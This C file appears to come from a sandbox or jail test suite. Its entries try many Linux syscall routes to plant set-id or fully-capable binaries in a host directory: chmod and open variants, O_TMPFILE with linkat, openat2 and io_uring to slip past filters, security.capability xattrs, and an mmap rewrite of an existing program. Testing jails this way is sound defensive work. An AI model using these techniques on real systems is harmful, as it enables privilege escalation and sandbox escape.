/* Attacks that leave a privileged program in a directory of the host's, one that a jail may write to. */
#define _GNU_SOURCE
#include "calls.h"
#include <fcntl.h>
#include <linux/capability.h>
#include <linux/io_uring.h>
#include <linux/openat2.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <unistd.h>

#define SET_ID (S_ISUID | S_ISGID | 0755)

static const char *directory;

static const char *at(const char *name) {
    static char path[4096];
    snprintf(path, sizeof path, "%s/%s", directory, name);
    return path;
}

static int begin(int argc, char **argv) {
    if (argc < 2) return -1;
    directory = argv[1];
    umask(0);
    return access(directory, W_OK); /* else it would fail for another reason */
}

/* A plain file, open for writing. */
static int plain(const char *name) { return open(at(name), O_CREAT | O_EXCL | O_WRONLY, 0755); }

/* What is at the path has a set-id mode: what was returned alone says nothing. */
static long planted(const char *name, long got) {
    struct stat stat;
    if (got < 0) return got;
    if (lstat(at(name), &stat) < 0) return -1;
    errno = EPERM;
    return stat.st_mode & (S_ISUID | S_ISGID) ? 0 : -1;
}

static long by_chmod(void) {
    return plain("chmod") < 0 ? -1 : planted("chmod", syscall(SYS_chmod, at("chmod"), SET_ID));
}
static long by_fchmod(void) { return planted("fchmod", syscall(SYS_fchmod, plain("fchmod"), SET_ID)); }
static long by_fchmodat(void) {
    return plain("fchmodat") < 0 ? -1 : planted("fchmodat", syscall(SYS_fchmodat, AT_FDCWD, at("fchmodat"), SET_ID));
}
static long by_fchmodat2(void) {
    return planted("fchmodat2", syscall(452 /* fchmodat2 */, plain("fchmodat2"), "", SET_ID, AT_EMPTY_PATH));
}
static long by_upper_half(void) {
    return planted("upper", syscall(SYS_fchmod, plain("upper"), SET_ID | 1UL << 32));
}
ATTACK("plant-chmod", plant_chmod);
static int plant_chmod(int argc, char **argv) {
    if (begin(argc, argv)) return 3;
    static const struct call calls[] = {
        {"chmod", by_chmod, 0},         {"fchmod", by_fchmod, 0},
        {"fchmodat", by_fchmodat, 0},   {"fchmodat2", by_fchmodat2, 0},
        {"fchmod, with a bit that the kernel does not read", by_upper_half, 0},
    };
    return EACH(calls);
}

static long by_open(void) { return planted("open", syscall(SYS_open, at("open"), O_CREAT | O_WRONLY, SET_ID)); }
static long by_openat(void) {
    return planted("openat", syscall(SYS_openat, AT_FDCWD, at("openat"), O_CREAT | O_WRONLY, SET_ID));
}
static long by_creat(void) { return planted("creat", syscall(SYS_creat, at("creat"), SET_ID)); }
static long by_mknod(void) { return planted("mknod", syscall(SYS_mknod, at("mknod"), S_IFREG | SET_ID, 0)); }
static long by_mknodat(void) {
    return planted("mknodat", syscall(SYS_mknodat, AT_FDCWD, at("mknodat"), S_IFREG | SET_ID, 0));
}
static long by_tmpfile(void) {
    int file = (int)syscall(SYS_openat, AT_FDCWD, directory, O_TMPFILE | O_WRONLY, SET_ID);
    if (file < 0) return -1;
    char path[32];
    snprintf(path, sizeof path, "/proc/self/fd/%d", file);
    return planted("tmpfile", linkat(AT_FDCWD, path, AT_FDCWD, at("tmpfile"), AT_SYMLINK_FOLLOW));
}
ATTACK("plant-created", plant_created);
static int plant_created(int argc, char **argv) {
    if (begin(argc, argv)) return 3;
    static const struct call calls[] = {
        {"open", by_open, 0},   {"openat", by_openat, 0},   {"creat", by_creat, 0},
        {"mknod", by_mknod, 0}, {"mknodat", by_mknodat, 0}, {"O_TMPFILE and linkat", by_tmpfile, 0},
    };
    return EACH(calls);
}

/* Calls that keep the mode where a filter cannot look. */
static long by_openat2(void) {
    struct open_how how = {.flags = O_CREAT | O_WRONLY, .mode = SET_ID};
    return planted("openat2", syscall(SYS_openat2, AT_FDCWD, at("openat2"), &how, sizeof how));
}

/* One entry submitted to a ring, and waited for. */
static long by_ring(void) {
    struct io_uring_params params = {0};
    int ring = (int)syscall(SYS_io_uring_setup, 1, &params);
    if (ring < 0) return -1;
    size_t size = params.sq_off.array + params.sq_entries * sizeof(uint32_t);
    char *sq = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
    struct io_uring_sqe *entry =
        mmap(NULL, sizeof *entry, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
    if (sq == MAP_FAILED || entry == MAP_FAILED) return -1;
    *entry = (struct io_uring_sqe){
        .opcode = IORING_OP_OPENAT,
        .fd = AT_FDCWD,
        .addr = (uintptr_t)at("ring"),
        .len = SET_ID,
        .open_flags = O_CREAT | O_WRONLY,
    };
    ((uint32_t *)(sq + params.sq_off.array))[0] = 0;
    __atomic_store_n((uint32_t *)(sq + params.sq_off.tail), 1, __ATOMIC_RELEASE);
    return planted("ring", syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0));
}
ATTACK("plant-unseen", plant_unseen);
static int plant_unseen(int argc, char **argv) {
    if (begin(argc, argv)) return 3;
    static const struct call calls[] = {{"openat2", by_openat2, 0}, {"io_uring", by_ring, 0}};
    return EACH(calls);
}

/* File capabilities: everything, in the form that counts on the host and in that of one's own user namespace. */
#define CAPABILITY "security.capability"
static const struct vfs_cap_data all_of_them = {
    VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE,
    {{~0u, 0}, {~0u, 0}},
};
static long by_setxattr(void) {
    return plain("setxattr") < 0 ? -1 : setxattr(at("setxattr"), CAPABILITY, &all_of_them, sizeof all_of_them, 0);
}
static long by_lsetxattr(void) {
    return plain("lsetxattr") < 0 ? -1 : lsetxattr(at("lsetxattr"), CAPABILITY, &all_of_them, sizeof all_of_them, 0);
}
static long by_fsetxattr(void) {
    return fsetxattr(plain("fsetxattr"), CAPABILITY, &all_of_them, sizeof all_of_them, 0);
}
static long by_setxattrat(void) {
    const struct {
        uint64_t value;
        uint32_t size, flags;
    } args = {(uintptr_t)&all_of_them, sizeof all_of_them, 0};
    int file = plain("setxattrat");
    return syscall(463 /* setxattrat */, file, "", AT_EMPTY_PATH, CAPABILITY, &args, sizeof args);
}
ATTACK("plant-capability", plant_capability);
static int plant_capability(int argc, char **argv) {
    if (begin(argc, argv)) return 3;
    static const struct call calls[] = {
        {"setxattr", by_setxattr, 0},
        {"lsetxattr", by_lsetxattr, 0},
        {"fsetxattr", by_fsetxattr, 0},
        {"setxattrat", by_setxattrat, 0},
    };
    return EACH(calls);
}

/* Writes to a program that is there through its pages, which takes no mode away as write(2) does: `rewrite PROGRAM`. */
ATTACK("rewrite", rewrite_program);
static int rewrite_program(int argc, char **argv) {
    int file = argc > 1 ? open(argv[1], O_RDWR) : -1;
    if (file < 0) return stopped("open");
    char *page = mmap(NULL, 1, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
    if (page == MAP_FAILED) return stopped("mmap");
    memcpy(page, "evil", 4);
    return 0;
}
